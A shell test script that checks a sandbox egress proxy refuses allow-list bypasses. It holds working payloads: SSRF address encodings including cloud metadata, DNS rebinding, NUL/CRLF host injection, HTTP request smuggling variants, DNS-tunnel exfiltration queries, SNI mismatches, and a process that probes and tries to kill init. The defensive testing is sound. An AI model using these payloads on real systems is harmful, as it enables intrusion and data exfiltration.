#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Ways out of an allow-list that must lead nowhere: odd spellings of hosts, names that lie at inside
# addresses, requests hidden in requests, protocols that nobody asked about. Each would reach a
# server of this test's, which says so, if it worked.
. "$(dirname "$0")/../lib/tap.sh"
. "$(dirname "$0")/../lib/egress.sh"
need ROOT NETNS PYTHON
world_start
server_start "${WORLD[@]}" Strict=yes MaxSandboxConnections=40 EgressIdle=2s
api_port=${URL##*:}
ws good.test loop.test meta.test mapped.test mapped-meta.test ten.test six.test nat64.test six2four.test both.test \
    rebind.test dead.test "loop.test:$api_port"

# One program inside does all of it: KIND ARGUMENTS, an attempt a line, its answer in one line.
cat >"$WORK/try.py" <<'EOP'
import socket, sys, ssl, struct, binascii
def proxy(): return socket.create_connection(("127.0.0.1", 3128), timeout=15)
def first(s, n=300):
    d = b""
    try:
        while len(d) < n:
            m = s.recv(4096)
            if not m: break
            d += m
    except OSError as e: return "error " + type(e).__name__ + " " + repr(d[:60])
    return repr(d[:n]) if d else "closed"
def raw(arg):
    s = proxy(); s.sendall(arg.encode("latin-1").decode("unicode_escape").encode("latin-1")); return first(s)
def connect(arg): return raw("CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (arg, arg))
def socks(arg):
    name, port = arg.rsplit(":", 1); name = name.encode().decode("unicode_escape").encode("latin-1")
    s = proxy(); s.sendall(b"\5\1\0"); s.recv(2)
    s.sendall(b"\5\1\0\3" + bytes([len(name)]) + name + struct.pack(">H", int(port)))
    r = s.recv(10); return "socks %d" % r[1] if len(r) > 1 else "closed"
def socks4(arg):
    a, port = arg.split(":"); s = proxy(); s.sendall(b"\5\1\0"); s.recv(2)
    s.sendall(b"\5\1\0\1" + socket.inet_aton(a) + struct.pack(">H", int(port))); return "socks %d" % s.recv(10)[1]
def command(arg):
    s = proxy(); s.sendall(b"\5\1\0"); s.recv(2); s.sendall(b"\5" + bytes([int(arg)]) + b"\0\3\x09good.test\0\x50"); return "socks %d" % s.recv(10)[1]
def port80(arg):
    s = socket.create_connection(("127.64.0.1", 80), timeout=15); s.sendall(arg.encode("latin-1").decode("unicode_escape").encode("latin-1")); return first(s)
def sni(arg):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    s = socket.create_connection(("127.64.0.1", 443), timeout=15)
    try: c.wrap_socket(s, server_hostname=arg); return "connected"
    except (OSError, ssl.SSLError) as e: return "error " + str(e)[:60]
def tls(arg):
    s = socket.create_connection(("127.0.0.1", 443), timeout=15); s.sendall(binascii.unhexlify(arg)); return first(s)
def tunnel(arg):
    where, name = arg.split(" "); s = proxy(); s.sendall(("CONNECT %s HTTP/1.1\r\n\r\n" % where).encode())
    if b" 200 " not in s.recv(4096): return "no tunnel"
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    try: c.wrap_socket(s, server_hostname=name); return "connected"
    except (OSError, ssl.SSLError) as e: return "error " + str(e)[:60]
def direct(arg):
    a, port = arg.rsplit(":", 1)
    try: socket.create_connection((a, int(port)), timeout=5); return "connected"
    except OSError as e: return "error " + str(e)
def udp(arg):
    a, port = arg.rsplit(":", 1); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.sendto(b"x", (a, int(port))); return "sent"
    except OSError as e: return "error " + str(e)
def dns(arg):
    name, kind = arg.rsplit(":", 1)
    q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode("latin-1") for l in name.split(".")) + b"\0" + struct.pack(">HH", int(kind), 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, ("127.0.0.1", 53))
    try: r = s.recv(600); return "code %d answers %d" % (r[3] & 15, r[7])
    except OSError: return "silence"
for line in sys.stdin:
    kind, arg = line.rstrip("\n").split(" ", 1)
    try: print(globals()[kind](arg), flush=True)
    except Exception as e: print("error", repr(e)[:100], flush=True)
EOP
what=() want=() how=()
attempt() { what+=("$1") want+=("$2") how+=("$3"); }
judge() {
    printf '%s\n' "${how[@]}" >"$WORK/attempts"
    api PUT "/v1/workspaces/$WS/files/try.py" --data-binary "@$WORK/try.py"
    api PUT "/v1/workspaces/$WS/files/attempts" --data-binary "@$WORK/attempts"
    mapfile -t got < <(run 'getent hosts good.test >/dev/null; python3 try.py <attempts')
    for i in "${!what[@]}"; do
        tap_up=1 like "${got[i]:-nothing}" "${want[i]}" "${what[i]}" || echo "# ${how[i]}"
    done
    what=() want=() how=()
}

# Controls: what is allowed works in each of these ways.
attempt "control: the proxy" "200 OK.*hello from good.test" 'raw GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n'
attempt "control: a tunnel" "200 Conn" "connect good.test:80"
attempt "control: SOCKS" "socks 0" "socks good.test:80"
attempt "control: port 80" "hello from good.test" 'port80 GET / HTTP/1.1\r\nHost: good.test\r\n\r\n'
attempt "control: the name in a hello" "connected" "sni good.test"
attempt "control: a name" "code 0 answers 1" "dns good.test:1"
attempt "control: of several addresses only the good ones are dialled" "200 Conn" "connect both.test:443"

# Spellings.
attempt "a NUL in a SOCKS name" "socks [12]" 'socks bad.test\x00.good.test:80'
attempt "a NUL before the suffix" "socks [12]" 'socks good.test\x00bad.test:80'
attempt "a line break in a SOCKS name" "socks [12]" 'socks good.test\r\nX: bad.test:80'
attempt "a suffix without its dot" "403" "connect evilgood.test:443"
attempt "the name as a prefix" "403" "connect good.test.bad.test:443"
attempt "two trailing dots" "400" "connect good.test..:443"
attempt "a user before the host" "40[03]" "connect good.test@bad.test:443"
attempt "a user in the URL" "400" 'raw GET http://good.test@bad.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n'
attempt "a percent sign" "400" "connect good%2etest:443"
attempt "a backslash" "400" 'raw GET http://bad.test\\@good.test/ HTTP/1.1\r\nHost: x\r\n\r\n'
attempt "a Cyrillic letter" "400" 'connect g\xd0\xbeod.test:443'
for a in 127.0.0.1 127.1 2130706433 0x7f000001 0177.0.0.1 0x7f.1 '[::1]' '[::ffff:127.0.0.1]' 0 '[::]' 169.254.169.254 2852039166 '[::ffff:a9fe:a9fe]' 10.1.2.3; do
    attempt "the address $a" "403" "connect $a:$api_port"
done
attempt "an address by SOCKS" "socks 2" "socks4 127.0.0.1:$api_port"
attempt "a public address" "403" "connect 1.1.1.1:443"

# Names that are allowed and lie at inside addresses.
for n in loop meta mapped mapped-meta ten six nat64 six2four; do
    attempt "a name that lies at an inside address: $n" "403 Forbidden.*denied" "connect $n.test:443"
done
attempt "this machine's own server (CVE-2025-9074)" "403" "connect loop.test:$api_port"
attempt "a name that moves: at first" "200 Conn" "connect rebind.test:443"
attempt "a name that moves: then inside" "403" "connect rebind.test:443"

# Ports and protocols.
attempt "the mail port" "403" "connect good.test:25"
attempt "port 0" "400" "connect good.test:0"
attempt "a port of seven digits" "400" "connect good.test:1000443"
attempt "SOCKS that listens" "socks 1" "command 2"
attempt "SOCKS that sends datagrams" "socks 1" "command 3"
attempt "a direct connection" "error.*refused" "direct $WEB:8080"
attempt "a direct connection outward" "error.*unreachable" "direct 1.1.1.1:443"
attempt "a datagram outward" "error.*unreachable" "udp 1.1.1.1:53"
attempt "an https URL without a tunnel" "400" 'raw GET https://good.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n'
attempt "a CONNECT on port 80" "400" 'port80 CONNECT bad.test:443 HTTP/1.1\r\nHost: bad.test\r\n\r\n'

# Questions that would carry something out.
attempt "a question for a name that is not listed" "code 3 answers 0" "dns c2VjcmV0.bad.test:1"
attempt "a question of another kind" "code 3 answers 0" "dns c2VjcmV0.bad.test:16"
attempt "text of a listed name" "code 0 answers 0" "dns good.test:16"
attempt "an IPv6 address of a listed name" "code 0 answers 0" "dns good.test:28"
attempt "a name in reverse" "code 3 answers 0" "dns 1.0.0.127.in-addr.arpa:12"

# What is asked for and what is said to want.
attempt "another Host than the URL's" "hello from good.test" 'raw GET http://good.test/ HTTP/1.1\r\nHost: bad.test\r\n\r\n'
attempt "another Host on port 80" "403" 'port80 GET / HTTP/1.1\r\nHost: bad.test\r\n\r\n'
attempt "two Hosts" "400" 'port80 GET / HTTP/1.1\r\nHost: good.test\r\nHost: bad.test\r\n\r\n'
attempt "a Host with another port" "400" 'port80 GET / HTTP/1.1\r\nHost: good.test:22\r\n\r\n'
attempt "another name in the hello" "error" "sni bad.test"
attempt "control: the name inside a tunnel" "connected" "tunnel good.test:443 good.test"
attempt "another name inside a tunnel's hello" "denied|closed|error" "tunnel good.test:443 bad.test"
attempt "a hello that is none" "x15.x03" "tls 160301000501000001ff"
attempt "a hello of 2 MiB" "x15.x03" "tls 16030140000120000003$(printf '03%.0s' {1..64})"

# A second request hidden in the first.
hidden='GET http://bad.test/hidden HTTP/1.1\r\nHost: bad.test\r\n\r\n'
attempt "hidden: after a request without a body" "hello from good.test" "raw GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n$hidden"
attempt "hidden: after a body" "hello from good.test" "raw POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 3\\r\\n\\r\\nabc$hidden"
attempt "hidden: a length and chunks" "400" "raw POST http://good.test/ HTTP/1.1\\r\\nContent-Length: 200\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n$hidden"
attempt "hidden: chunks in odd letters" "400" "raw POST http://good.test/ HTTP/1.1\\r\\nTransfer-Encoding:\\x0bchunked\\r\\n\\r\\n0\\r\\n\\r\\n$hidden"
attempt "hidden: two lengths" "400" "raw POST http://good.test/ HTTP/1.1\\r\\nContent-Length: 0\\r\\nContent-Length: 99\\r\\n\\r\\n$hidden"
attempt "hidden: a length with a sign" "400" "raw POST http://good.test/ HTTP/1.1\\r\\nContent-Length: +0\\r\\n\\r\\n$hidden"
attempt "hidden: a blank before the colon" "400" "raw POST http://good.test/ HTTP/1.1\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n$hidden"
attempt "hidden: lines without CR" "400" "raw GET http://good.test/ HTTP/1.1\\nHost: good.test\\n\\n$hidden"
attempt "hidden: a folded line" "400" "raw GET http://good.test/ HTTP/1.1\\r\\nA: b\\r\\n c\\r\\n\\r\\n$hidden"
attempt "hidden: behind an upgrade that is not one" "hello from good.test" "raw GET http://good.test/ HTTP/1.1\\r\\nConnection: Upgrade\\r\\nUpgrade: h2c\\r\\n\\r\\n$hidden"
attempt "hidden: in a chunk of odd size" "400|error|closed" "raw POST http://good.test/ HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n-1\\r\\n$hidden"
attempt "a head without end" "400" "raw GET http://good.test/ HTTP/1.1\\r\\nA: $(printf 'a%.0s' {1..17000})"
attempt "more headers than there may be" "400" "raw GET http://good.test/ HTTP/1.1\\r\\n$(printf 'A: b\\r\\n%.0s' {1..120})\\r\\n"
judge
is "$(cat "$WORK/requests" 2>/dev/null | grep -c "bad.test\|hidden\|smuggled")" 0 "no server ever saw a hidden request or another host" || grep "bad.test\|hidden\|smuggled" "$WORK/requests"
is "$(grep -c "bad.test\|arpa\|c2Vj" "$WORK/questions")" 0 "no name server was asked for what is not listed"
is "$(decision '[.decisions[] | select(.reason == "private_address")] | length > 5')" true "refusals of inside addresses are shown as such"

# --- while init looks which process connected, it takes the user's effective ids on
api POST "/v1/workspaces/$WS/exec" -d "$(jq -nc --arg c 'python3 - <<EOS
import os, socket, threading
stop, seen = False, set()
def pry():
    while not stop:
        for what in ("mem", "environ", "maps", "fd/3", "auxv"):
            try:
                os.close(os.open("/proc/1/" + what, os.O_RDONLY)); seen.add(what)
            except OSError: pass
        try: seen.update(os.listdir("/proc/1/fd"))
        except OSError: pass
        try: os.kill(1, 9); os.kill(1, 19)
        except OSError: pass
l = [threading.Thread(target=pry) for i in range(2)]
for t in l: t.start()
for i in range(80):
    s = socket.create_connection(("127.0.0.1", 3128)); s.sendall(b"GET http://pry.test/ HTTP/1.1\r\n\r\n"); s.recv(10)
stop = True
for t in l: t.join()
print("seen", sorted(seen))
EOS' '{command: $c}')"
is "$(json .stdout)" "seen []" "nobody looks into init, or ends it, while it looks for who connected"
is "$(decision '[.decisions[] | select(.host == "pry.test")][0].process')" python3 "which it did"

# --- abuse: who does not read or write costs little, and others go on
api POST "/v1/workspaces/$WS/exec" -d '{"background": true, "command": "python3 - <<EOS\nimport socket, time\nl = []\nfor i in range(120):\n    s = socket.create_connection((\"127.0.0.1\", 3128)); s.sendall(b\"GET http://good\"); l.append(s)\nprint(\"open\", flush=True)\ntime.sleep(60)\nEOS"}'
slow=$(json .id)
wait_until 20 sh -c "curl -sS -H 'Authorization: Bearer $TOKEN' $URL/v1/execs/$slow/stdout | grep -q open"; ok $? "a sandbox opens more connections than it may have"
other=$WS
ws good.test
is "$(run 'curl -sS -m 20 http://good.test/')" "hello from good.test" "another is served meanwhile"
WS=$other
api POST "/v1/execs/$slow/cancel"
is "$(run 'curl -sS -m 20 http://good.test/')" "hello from good.test" "and so is this one when they are gone"
is "$(run 'curl -sS -m 20 -o /dev/null -w "%{http_code}" http://dead.test/')" 403 "an address without a server that is not listed is still refused"
is "$(run 'curl -sS -m 20 http://good.test/hold; echo')" "held" "a connection that carries nothing ends"
done_testing
